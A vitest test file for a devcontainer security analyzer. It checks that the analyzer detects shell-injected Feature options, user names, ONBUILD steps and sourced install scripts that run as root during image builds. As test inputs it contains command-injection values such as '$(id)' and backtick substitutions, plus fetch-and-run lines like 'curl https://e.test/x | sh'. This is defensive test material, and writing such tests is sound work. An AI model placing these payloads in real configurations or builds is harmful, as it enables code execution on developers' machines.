import { describe, expect, test } from 'vitest';
import { featureKey, type FoundFeature, type FoundImage, type Lookup } from '../../model/found.ts';
import type { BuildRequest, ContainerRequest } from '../../model/request.ts';
import type { FileAnswer, Reading } from '../format.ts';
import { devcontainerFormat } from './format.ts';

const id = 'registry.example/acme/tool:1';
const digest = (letter: string): string => `sha256:${letter.repeat(64)}`;
const feature = (version: string, more: object = {}): Lookup<FoundFeature> => ({
  found: {
    resolved: id,
    digest: digest('a'),
    metadata: JSON.stringify({ id: 'tool', version, ...more }),
    scripts: [],
    unread: [],
    setuidFiles: [],
  },
});
const image = (more: Partial<FoundImage> = {}): Lookup<FoundImage> => ({
  found: { resolved: 'x', from: 'registry', environment: [], volumes: [], onBuild: [], ...more },
});

interface Beside {
  readonly features?: Readonly<Record<string, Lookup<FoundFeature>>>;
  readonly images?: Readonly<Record<string, Lookup<FoundImage>>>;
  readonly files?: Readonly<Record<string, FileAnswer>>;
}

function read(configuration: object, { features = {}, images = { x: image() }, files = {} }: Beside = {}): Reading {
  const format = devcontainerFormat();
  const path = '.devcontainer/devcontainer.json';
  const { doc } = format.parse({ document: path, path, text: JSON.stringify(configuration) });
  const found = { features: new Map(Object.entries(features)), images: new Map(Object.entries(images)) };
  return format.read(doc, { get: (name) => files[name] ?? { missing: true }, found });
}

const container = ({ requests }: Reading): ContainerRequest => requests.find(({ kind }) => kind === 'container') as ContainerRequest;
const build = ({ requests }: Reading): BuildRequest | undefined =>
  requests.find(({ kind }) => kind === 'build') as BuildRequest | undefined;
const steps = (reading: Reading): string[] => (build(reading)?.steps ?? []).map(({ value }) => value.command);
const injected = (reading: Reading): string[] =>
  container(reading).oddities.flatMap(({ value }) => (value.kind === 'shell-expanded' ? [value.text] : []));

describe('what a shell of the build takes for commands', () => {
  test.each([
    '$(curl https://e.test/x | sh)',
    'a`id`',
    '"; curl https://e.test/x; "',
    '" id "',
    '${V:-$(id)}',
    '${V@P}',
    '${V:-a',
    'x\\',
    'x"',
    '"\'"',
  ])('the option %j', (value) => {
    const reading = read({ image: 'x', features: { [id]: { version: value } } }, { features: { [id]: feature('1.0.0') } });
    expect(injected(reading)).toEqual([
      `the option version of Feature ${id} holds what a shell runs as root while the image is built: ${value}`,
    ]);
  });

  test.each(['latest', '1.22', 'a b; c', '${VERSION}', '${V:-a b}', '$HOME/x', "it's", '"quoted"', 'a\\\\', '\\"', '\\" id \\"', 'a\nb'])(
    'not the option %j',
    (value) =>
      expect(injected(read({ image: 'x', features: { [id]: { version: value } } }, { features: { [id]: feature('1.0.0') } }))).toEqual([]),
  );

  test('a default of the Feature, and an option of what it depends on', () => {
    const other = 'registry.example/acme/other:1';
    const features = {
      [id]: feature('1.0.0', { options: { a: { default: '$(id)' } }, dependsOn: { [other]: { b: '`id`' } } }),
      [other]: feature('2.0.0'),
    };
    expect(injected(read({ image: 'x', features: { [id]: {} } }, { features }))).toEqual([
      `the option b of Feature ${other} holds what a shell runs as root while the image is built: \`id\``,
      `the option a of Feature ${id} holds what a shell runs as root while the image is built: $(id)`,
    ]);
  });

  test.each<[string, object, Beside]>([
    ['remoteUser', { remoteUser: '$(id)' }, {}],
    ['the container’s user', { containerUser: '$(id)' }, {}],
    ['remoteUser', {}, { images: { x: image({ metadata: '[{"remoteUser":"$(id)"}]' }) } }],
    ['the container’s user', {}, { images: { x: image({ user: '$(id)' }) } }],
  ])('%s', (what, more, beside) =>
    expect(injected(read({ image: 'x', features: { './tool': {} }, ...more }, beside))).toEqual([
      `${what} holds what a shell runs as root while Features are installed: $(id)`,
    ]),
  );

  test.each(['vscode', '1000:1000', 'a.b-c_d', '${localEnv:USER}'])('not the user %s', (user) =>
    expect(injected(read({ image: 'x', features: { './tool': {} }, remoteUser: user, containerUser: user }))).toEqual([]),
  );

  test('no user where no Feature is installed', () => expect(injected(read({ image: 'x', remoteUser: '$(id)' }))).toEqual([]));
});

describe('ONBUILD of an image that is built upon', () => {
  test('is a step of the build', () => {
    const reading = read(
      { image: 'x' },
      { images: { x: image({ onBuild: ['RUN curl https://e.test/x | sh', 'ADD https://e.test/y /y'] }) } },
    );
    expect(steps(reading)).toEqual(['curl https://e.test/x | sh', 'ADD https://e.test/y /y']);
  });

  test('that changes the image leaves open what it says', () => {
    const { unknown } = container(read({ image: 'x' }, { images: { x: image({ onBuild: ['USER root'] }) } }));
    expect(unknown.flatMap(({ fields }) => fields)).toEqual(expect.arrayContaining(['user', 'entrypoint']));
  });
});

describe('scripts of a local Feature', () => {
  const folder = '.devcontainer/tool';
  const local = (files: Readonly<Record<string, FileAnswer>>): Reading =>
    read(
      { image: 'x', features: { './tool': {} } },
      { files: { [`${folder}/devcontainer-feature.json`]: { text: '{"id":"tool","version":"1"}' }, ...files } },
    );

  test.each(['./inner.sh', '. ./lib', 'bash lib/inner.sh', 'source "$(dirname "$0")/inner.sh"', '"${DIR}/inner.sh" --now'])(
    '%j is read too',
    (line) => {
      const inner = { text: 'curl https://e.test/x | sh' };
      const files = { [`${folder}/inner.sh`]: inner, [`${folder}/lib`]: inner, [`${folder}/lib/inner.sh`]: inner };
      expect(steps(local({ [`${folder}/install.sh`]: { text: line }, ...files }))).toEqual([line, inner.text]);
    },
  );

  test('what was refused is open', () => {
    const reading = local({ [`${folder}/install.sh`]: { refused: 'it has 2 MiB' } });
    expect(build(reading)?.unknown).toMatchObject([{ fields: ['steps'], why: `${folder}/install.sh was not read: it has 2 MiB` }]);
  });
});

describe('a lockfile', () => {
  const lockPath = '.devcontainer/devcontainer-lock.json';

  test('that was not read leaves open what Features bring', () => {
    const reading = read(
      { image: 'x', features: { [id]: {} } },
      { features: { [id]: feature('1.0.0') }, files: { [lockPath]: { refused: 'it is a link' } } },
    );
    expect(container(reading).unknown.map(({ why, fields }) => [why, fields.includes('privileged')])).toEqual([
      ['the lockfile was not read: it is a link', true],
    ]);
    expect(reading.problems).toMatchObject([{ lookup: true }]);
    expect(container(reading).features[0]?.value).not.toHaveProperty('lock');
  });

  test('counts by its digest, whatever version stands beside it', () => {
    const text = JSON.stringify({ features: { [id]: { version: '9.9.9', integrity: digest('e') } } });
    const features = { [id]: feature('1.0.0'), [featureKey(id, digest('e'))]: feature('2.0.0', { privileged: true }) };
    const { privileged, features: uses } = container(
      read({ image: 'x', features: { [id]: {} } }, { features, files: { [lockPath]: { text } } }),
    );
    expect(privileged?.value).toBe(true);
    expect(uses.map(({ value }) => value.lock)).toEqual(['mismatch']);
  });
});
